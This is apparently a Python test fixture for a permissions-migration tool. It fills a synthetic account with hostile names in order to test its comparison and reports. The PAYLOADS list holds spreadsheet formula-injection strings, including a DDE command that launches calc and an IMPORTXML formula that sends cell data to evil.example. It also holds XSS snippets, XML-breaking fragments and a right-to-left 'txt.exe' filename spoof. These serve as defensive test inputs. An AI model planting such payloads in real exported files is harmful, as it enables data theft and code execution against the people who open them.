"""An account in which whatever people can name has a hostile name, compared and planned for real.

The names are those of the npm package `big-list-of-naughty-strings` 1.0.0 (MIT, Max Woolf; the copy in
`tests/data/naughty_strings` has its licence), and payloads against the programs that open our files.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, date, datetime
from functools import cache

from report_builders import HOSTILE

import builders
from permmigrate.catalog import Catalog
from permmigrate.diff import Diff
from permmigrate.diff.compare import compare
from permmigrate.mapping.tables import load
from permmigrate.model import (
    AccountKey,
    Collection,
    CollectionId,
    ContentKind,
    ContentRef,
    CustomPolicy,
    EnvironmentId,
    Folder,
    FolderId,
    Group,
    GroupId,
    LedgerEntry,
    ManagementType,
    OrphanShare,
    PermissionType,
    PrincipalRef,
    PrincipalType,
    ReadStatus,
    Role,
    RoleAssignment,
    RoleId,
    ScopeType,
    Share,
    UserId,
)
from permmigrate.plan import Plan
from permmigrate.plan.draft import Terms, draft
from permmigrate.report.value import DiffView
from permmigrate.report.view import diff_view
from permmigrate.resources import mappings_dir
from permmigrate.snapshot import Snapshot

_BASE = builders.ROOT / "tests" / "data" / "naughty_strings" / "blns.json"
PAYLOADS = (
    *HOSTILE,
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+HYPERLINK(A1)",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '";=1+1;"',
    '","=1+1',
    "'=1+1",
    "{=1+1}",
    '=DDE("cmd";"/C calc";"a")',
    '=IMPORTXML("http://evil.example/?"&A1,"//a")',
    "734211898771000",
    "0012",
    "1E9",
    "2026-11-22",
    "TRUE",
    "#REF!",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><x/>",
    "<!--",
    "--><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "' onmouseover='alert(1)",
    "${alert(1)}",
    "👩🏽‍🚀🏳️‍🌈" * 40,
    "ــــ" + "ا" * 300,
    "\u202e" * 20 + "txt.exe",
    "\u2066\u2067\u2068unclosed",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢" * 5,
    "w" * 40_000,
    "line\n" * 400,
    "_x000D_\r\n_x0000_",
    "_x005F_ _x005F_x0041_",
)


@cache
def names() -> tuple[str, ...]:
    """All of them, each once, none empty."""
    listed = json.loads(_BASE.read_text(encoding="utf-8"))
    return tuple(dict.fromkeys(name for name in (*listed, *PAYLOADS) if name))


@cache
def account() -> Snapshot:
    """Each name is that of a user and a folder; groups, keys, roles and what went wrong share them."""
    all_names = names()
    environments = tuple(
        builders.environment(f"e{at}", name=name, cloud_name=f"cloud{at}")
        for at, name in enumerate(("=1+1", "<script>alert(1)</script>"))
    )
    users, groups, keys, folders, collections, shares = [], [], [], [], [], []
    for at, name in enumerate(all_names):
        environment = EnvironmentId(f"e{at % 2}")
        folder = FolderId(f"f{at}")
        role = ("media_library_user", "admin", "master_admin")[at % 3] if at % 40 else name
        users.append(builders.user(f"u{at}", role, name=name, email=f"{name}@example.com"))
        folders.append(Folder(folder, environment, name.strip("/") or "x"))
        who = PrincipalRef(PrincipalType.USER, f"u{at}")
        if at % 4 == 0:
            groups.append(Group(GroupId(f"g{at}"), name, (UserId(f"u{at}"),)))
            who = PrincipalRef(PrincipalType.GROUP, f"g{at}")
        if at % 4 == 1:
            keys.append(builders.api_key(f"{734211898771000 + at}", environment, name=name))
        level = ("can_view", "can_contribute", "can_edit", "can_manage")[at % 4]
        content = ContentRef(environment, ContentKind.FOLDER, folder)
        shares.append(Share(content, who, level, f"{name[:50]}.csv:{at}"))
        if at % 8 == 2:
            collections.append(Collection(CollectionId(f"c{at}"), environment, name))
            content = ContentRef(environment, ContentKind.COLLECTION, f"c{at}")
            shares.append(Share(content, who, level, "shares.csv:1"))
    return builders.snapshot(
        environments=environments,
        catalog=_catalog(),
        users=tuple(users),
        groups=tuple(groups),
        api_keys=tuple(keys),
        account_keys=tuple(AccountKey(f"{91827364 + at}", name) for at, name in enumerate(all_names[::50])),
        folders=tuple(folders),
        collections=tuple(collections),
        shares=tuple(shares),
        assignments=tuple(
            RoleAssignment(PrincipalRef(PrincipalType.USER, f"u{at}"), RoleId(f"custom{at}"))
            for at in range(0, len(all_names), 20)
        ),
        custom_policies=tuple(_policies()),
        digest="a" * 64,
        orphan_shares=tuple(
            OrphanShare(((name, name), ("level", name)), f"nobody is called {name}", "shares.csv:3")
            for name in all_names[::10]
        ),
        ledger=tuple(
            LedgerEntry("shares", f"list {name}", name, ReadStatus.FAILED, 0, 500, name)
            for name in all_names[::10]
        ),
    )


def _catalog() -> Catalog:
    plain = builders.sandbox_catalog()
    custom = [
        Role(
            RoleId(f"custom{at}"),
            name,
            name,
            ManagementType.CUSTOM,
            PermissionType.GLOBAL,
            ScopeType.ACCOUNT,
            next(role.policy_ids for role in plain.roles.values() if role.level == "account"),
        )
        for at, name in enumerate(names())
        if at % 20 == 0
    ]
    source = "https://api.cloudinary.com/v2/accounts/permissions/public/catalog"
    return Catalog.of(plain.policies.values(), (*plain.roles.values(), *custom), plain.schema, source)


def _policies() -> Iterator[CustomPolicy]:
    for at, name in enumerate(names()[::25]):
        statement = f'permit (principal == Cloudinary::User::"u{at}", action, resource) // {name}'
        yield CustomPolicy(f"p{at}", name, name, ScopeType.ACCOUNT, None, statement + "\n;")


@cache
def compared() -> tuple[Diff, Plan]:
    """The comparison, and what would be done for it."""
    tables, today = load(mappings_dir()), date(2026, 11, 22)
    diff = compare(account(), tables, today=today, tool_version="0.1.0")
    now = datetime(2026, 11, 22, tzinfo=UTC)
    terms = Terms(now=now, tool_version="0.1.0", today=today, allow_incomplete=True)
    return diff, draft(account(), tables, diff, terms)


def plan() -> Plan:
    """What would be done."""
    return compared()[1]


@cache
def view() -> DiffView:
    """The finished comparison, with its plan."""
    diff, planned = compared()
    return diff_view(diff, account(), plan=planned)
